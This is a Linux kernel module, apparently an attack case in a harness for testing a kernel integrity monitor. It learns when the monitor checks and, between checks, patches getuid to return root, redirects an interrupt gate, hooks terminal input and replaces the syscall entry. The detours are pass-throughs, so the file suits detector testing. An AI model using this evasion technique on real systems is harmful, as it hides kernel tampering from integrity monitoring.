// SPDX-License-Identifier: GPL-2.0-only
/*
 * evade TARGET[,TARGET...] [MARGIN_US]: tampers while the cokernel does not look,
 * and restores Linux before each tick.
 *
 * A beacon on the first CPU, which is the cokernel's, sees when it was away: it
 * reads the time again and again, with interrupts off, and only a trip makes a
 * gap. Ticks come at fixed times, so the last gap tells when the next one begins.
 * A thread on another CPU restores its targets MARGIN_US before that, and tampers
 * again when the beacon runs on. From then on the beacon is awake around each
 * tick only.
 */
#include <linux/completion.h>
#include <linux/cpumask.h>
#include <linux/hrtimer.h>
#include <linux/kernel.h>
#include <linux/kthread.h>
#include <linux/math64.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/smp.h>
#include <linux/sort.h>
#include <linux/string.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include <asm/cpufeature.h>
#include <asm/desc.h>
#include <asm/ibt.h>
#include <asm/msr.h>
#include <asm/nospec-branch.h>
#include <asm/trapnr.h>
#include <asm/tsc.h>

#include "attacks.h"

#define BEACON_CPU	0
#define GAP_US		50	/* a longer one is a trip */
#define LEAD_US		150	/* the beacon wakes so long before a tick */
#define AFTER_US	20	/* a question to this CPU is answered by then */
#define MARGIN_US	300
#define MARGIN_MAX_US	3000
#define LEARNED		16	/* ticks */
#define LEARN_MAX_MS	5000

/* Leads on to the old entry at once: nothing returns to this module. */
#define DETOUR(name)						\
	static unsigned long name##_old __used;			\
	asm(".pushsection .text, \"ax\"\n"			\
	    ".balign 16\n"					\
	    ".type " #name "_detour, @function\n"		\
	    #name "_detour:\n"					\
	    ASM_ENDBR						\
	    ANNOTATE_RETPOLINE_SAFE				\
	    "jmp *" #name "_old(%rip)\n"			\
	    "int3\n"						\
	    ".size " #name "_detour, . - " #name "_detour\n"	\
	    ".popsection\n");					\
	extern const u8 name##_detour[]
DETOUR(evade_entry);
DETOUR(evade_hook);

static u64 ticks_of(unsigned int us)
{
	return div_u64((u64)us * tsc_khz, 1000);
}

/* Bytes of text or of the interrupt table, written through an alias that does not outlast the write. */
struct bytes {
	const u8 *at;
	u8 old[16], bad[16];
	size_t count;
};

static void bytes_find(struct bytes *bytes, const u8 *at)
{
	bytes->at = at;
	memcpy(bytes->old, at, bytes->count);
}

static void bytes_set(struct bytes *bytes, bool bad)
{
	u8 *alias = alias_map(bytes->at);

	if (WARN_ON(!alias))
		return;
	overwrite(alias, bad ? bytes->bad : bytes->old, bytes->count);
	alias_unmap(alias);
}

/* text: every user seems to be root. */
static struct bytes text = { .bad = { 0x31, 0xc0, 0xc3 }, .count = 3 };

static int text_find(void)
{
	const u8 *at = (u8 *)symbol("__x64_sys_getuid");

	if (!at)
		return -ENOENT;
	bytes_find(&text, at);
	return 0;
}

static void text_set(bool bad)
{
	bytes_set(&text, bad);
}

/* gate: the gate of INTO, which 64-bit mode does not have. */
static struct bytes gate = { .count = sizeof(gate_desc) };

static int gate_find(void)
{
	const gate_desc *table = (gate_desc *)symbol("idt_table");
	u64 entry = (u64)evade_entry_detour;
	gate_desc bad;

	if (!table)
		return -ENOENT;
	bad = table[X86_TRAP_OF];
	bad.offset_low = (u16)entry;
	bad.offset_middle = (u16)(entry >> 16);
	bad.offset_high = (u32)(entry >> 32);
	memcpy(gate.bad, &bad, sizeof(bad));
	bytes_find(&gate, (u8 *)(table + X86_TRAP_OF));
	return 0;
}

static void gate_set(bool bad)
{
	bytes_set(&gate, bad);
}

/* hook: the input of all terminals. */
static unsigned long *receive;

static int hook_find(void)
{
	struct tty_ldisc_ops *discipline = (void *)symbol("n_tty_ops");

	if (!discipline || !discipline->receive_buf2)
		return -ENOENT;
	receive = (unsigned long *)&discipline->receive_buf2;
	evade_hook_old = *receive;
	return 0;
}

static void hook_set(bool bad)
{
	WRITE_ONCE(*receive, bad ? (unsigned long)evade_hook_detour : evade_hook_old);
}

static void hook_leave(void)
{
	/* Calls that have read the pointer. */
	synchronize_rcu_tasks();
}

/* entry: system calls on the beacon's CPU, and on that of the thread. */
static void write_entry(void *value)
{
	wrmsrl(MSR_LSTAR, (unsigned long)value);
}

static int entry_find(void)
{
	if (boot_cpu_has(X86_FEATURE_PTI))
		return -EOPNOTSUPP;
	rdmsrl(MSR_LSTAR, evade_entry_old);
	return 0;
}

static void entry_set(bool bad)
{
	void *value = (void *)(bad ? (unsigned long)evade_entry_detour : evade_entry_old);

	on_each_cpu(write_entry, value, 1);
}

static struct target {
	const char *name;
	int (*find)(void);
	void (*set)(bool bad);
	void (*leave)(void);
	bool chosen;
} targets[] = {
	/* The entry first: another CPU must answer. */
	{ "entry", entry_find, entry_set },
	{ "text", text_find, text_set },
	{ "gate", gate_find, gate_set },
	{ "hook", hook_find, hook_set, hook_leave },
};

static void set_all(bool bad)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(targets); i++)
		if (targets[i].chosen)
			targets[i].set(bad);
}

static void leave_all(void)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(targets); i++)
		if (targets[i].chosen && targets[i].leave)
			targets[i].leave();
}

/* The first error; what was found by then stays chosen. */
static int find_all(const char *names)
{
	char list[64], *rest = list, *name;
	int error = -EINVAL;
	size_t i;

	for (i = 0; i < ARRAY_SIZE(targets); i++)
		targets[i].chosen = false;
	strscpy(list, names, sizeof(list));
	while ((name = strsep(&rest, ","))) {
		for (i = 0; i < ARRAY_SIZE(targets); i++)
			if (!targets[i].chosen && !strcmp(targets[i].name, name))
				break;
		error = i < ARRAY_SIZE(targets) ? targets[i].find() : -EINVAL;
		if (error)
			return error;
		targets[i].chosen = true;
	}
	return error;
}

/* What the beacon tells: the last trip, and when the next one begins. */
static struct {
	u64 begin, end, next;
	u64 period;
} beacon;

static struct {
	u64 margin, first_tsc, in_place, total;
	unsigned int ticks, late, unseen;
} spy;

static struct task_struct *beacon_thread, *spy_thread;
static DECLARE_COMPLETION(learned);
static DECLARE_COMPLETION(began);

static void sleep_until(u64 tsc)
{
	s64 left = tsc - rdtsc();
	ktime_t time;

	if (left <= 0)
		return;
	time = ns_to_ktime(div_u64(left * 1000000ull, tsc_khz));
	set_current_state(TASK_IDLE);
	schedule_hrtimeout_range(&time, 0, HRTIMER_MODE_REL_PINNED);
}

/* Waits until the next gap in the time of this CPU; false if there is none until @until. */
static bool see_gap(u64 until)
{
	u64 last, now, least = ticks_of(GAP_US);
	unsigned int turn;
	unsigned long flags;
	bool seen = false;

	local_irq_save(flags);
	last = rdtsc();
	do {
		/* Few RDTSCs: they are slow on an emulator. */
		for (turn = 0; turn < 100; turn++)
			barrier();
		cpu_relax();
		now = rdtsc();
		seen = now - last > least;
		if (seen) {
			beacon.begin = last;
			WRITE_ONCE(beacon.end, now);
		}
		last = now;
	} while (!seen && (s64)(now - until) < 0);
	local_irq_restore(flags);
	return seen;
}

static int compare(const void *a, const void *b)
{
	u64 x = *(const u64 *)a, y = *(const u64 *)b;

	return x < y ? -1 : x > y;
}

static bool learn(void)
{
	u64 periods[LEARNED], last = 0, end = rdtsc() + (u64)LEARN_MAX_MS * tsc_khz;
	unsigned int count;

	for (count = 0; count < LEARNED; cond_resched()) {
		if (kthread_should_stop() || (s64)(rdtsc() - end) > 0)
			return false;
		if (!see_gap(rdtsc() + ticks_of(20000)))
			continue;
		if (last)
			periods[count++] = beacon.begin - last;
		last = beacon.begin;
	}
	sort(periods, LEARNED, sizeof(*periods), compare, NULL);
	beacon.period = periods[LEARNED / 2];
	beacon.next = last + beacon.period;
	return true;
}

static int run_beacon(void *unused)
{
	u64 lead = ticks_of(LEAD_US), next;

	if (!learn())
		beacon.period = 0;
	complete(&learned);
	while (!kthread_should_stop()) {
		if (!beacon.period) {
			schedule_timeout_idle(HZ / 10);
			continue;
		}
		next = beacon.next;
		sleep_until(next - lead);
		if (see_gap(next + lead)) {
			next = beacon.begin;
		} else {
			spy.unseen++;
			/* It may have slept too long. */
			while ((s64)(next + beacon.period - rdtsc()) < 0)
				next += beacon.period;
		}
		smp_store_release(&beacon.next, next + beacon.period);
	}
	return 0;
}

static int run_spy(void *unused)
{
	u64 since, restored, next, slice = beacon.end - beacon.begin;

	while (!kthread_should_stop()) {
		next = smp_load_acquire(&beacon.next);
		since = rdtsc();
		if ((s64)(next - spy.margin - since) > 0) {
			set_all(true);
			if (!spy.first_tsc) {
				spy.first_tsc = since;
				complete(&began);
			}
			sleep_until(next - spy.margin);
			set_all(false);
			restored = rdtsc();
			spy.in_place += restored - since;
			spy.ticks++;
		} else {
			restored = since;
		}
		sleep_until(next + slice + ticks_of(AFTER_US));
		while (smp_load_acquire(&beacon.next) == next && !kthread_should_stop())
			sleep_until(rdtsc() + ticks_of(AFTER_US));
		sleep_until(beacon.end + ticks_of(AFTER_US));
		if ((s64)(beacon.begin - since) > 0 && (s64)(restored - beacon.begin) > 0)
			spy.late++;
		spy.total += rdtsc() - since;
	}
	return 0;
}

static struct task_struct *start(int (*run)(void *unused), unsigned int cpu)
{
	struct task_struct *thread = kthread_create_on_cpu(run, NULL, cpu, "evade/%u");

	if (!IS_ERR(thread)) {
		sched_set_fifo(thread);
		wake_up_process(thread);
	}
	return thread;
}

static void evade_stop(void)
{
	if (!IS_ERR_OR_NULL(spy_thread))
		kthread_stop(spy_thread);
	if (!IS_ERR_OR_NULL(beacon_thread))
		kthread_stop(beacon_thread);
	spy_thread = beacon_thread = NULL;
	leave_all();
}

static int evade_begin(struct attack *attack, char *argument)
{
	char *names = strsep(&argument, " ");
	unsigned int margin = MARGIN_US, other;
	int error;

	if (argument && kstrtouint(argument, 0, &margin))
		return -EINVAL;
	if (margin > MARGIN_MAX_US)
		return -ERANGE;
	other = cpumask_next(BEACON_CPU, cpu_online_mask);
	if (other >= nr_cpu_ids)
		return -EOPNOTSUPP;
	error = find_all(names);
	if (error) {
		leave_all();
		return error;
	}
	memset(&spy, 0, sizeof(spy));
	spy.margin = ticks_of(margin);
	reinit_completion(&learned);
	reinit_completion(&began);
	beacon_thread = start(run_beacon, BEACON_CPU);
	error = PTR_ERR_OR_ZERO(beacon_thread);
	if (!error) {
		wait_for_completion(&learned);
		error = beacon.period ? 0 : -ENODATA;
	}
	if (!error) {
		spy_thread = start(run_spy, other);
		error = PTR_ERR_OR_ZERO(spy_thread);
	}
	if (error) {
		evade_stop();
		return error;
	}
	if (!wait_for_completion_timeout(&began, HZ)) {
		evade_stop();
		return -ETIMEDOUT;
	}
	snprintf(attack->about, sizeof(attack->about), "%s, period %llu us, slice %llu us", names,
		 div_u64(beacon.period * 1000, tsc_khz),
		 div_u64((beacon.end - beacon.begin) * 1000, tsc_khz));
	attack_mark(attack, NULL);
	attack->tsc = spy.first_tsc;
	return 0;
}

/* Says how well it went: late ones are those that a trip may have seen. */
static void evade_undo(struct attack *attack)
{
	evade_stop();
	snprintf(attack->about, sizeof(attack->about),
		 "%u ticks, %u late, %u unseen, in place %llu per cent", spy.ticks, spy.late,
		 spy.unseen, div64_u64(100 * spy.in_place, spy.total ?: 1));
}

struct attack evade = {
	.name = "evade",
	.begin = evade_begin,
	.undo = evade_undo,
	.present = attack_stays,
};
